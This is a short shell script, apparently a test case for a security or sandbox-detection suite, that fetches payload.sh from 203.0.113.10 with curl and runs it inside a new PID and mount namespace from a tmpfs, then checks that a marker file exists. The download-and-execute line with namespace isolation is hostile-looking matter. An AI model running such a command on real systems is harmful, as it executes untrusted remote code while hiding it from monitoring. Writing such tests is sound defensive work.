#!/bin/sh
. /opt/case/case.sh

curl -s http://203.0.113.10/payload.sh -o /var/tmp/p
unshare --pid --fork --mount --mount-proc sh -c 'mount -t tmpfs none /mnt; cp /var/tmp/p /mnt/p; sh /mnt/p; ps ax | wc -l'
test -e /tmp/reached
took_place
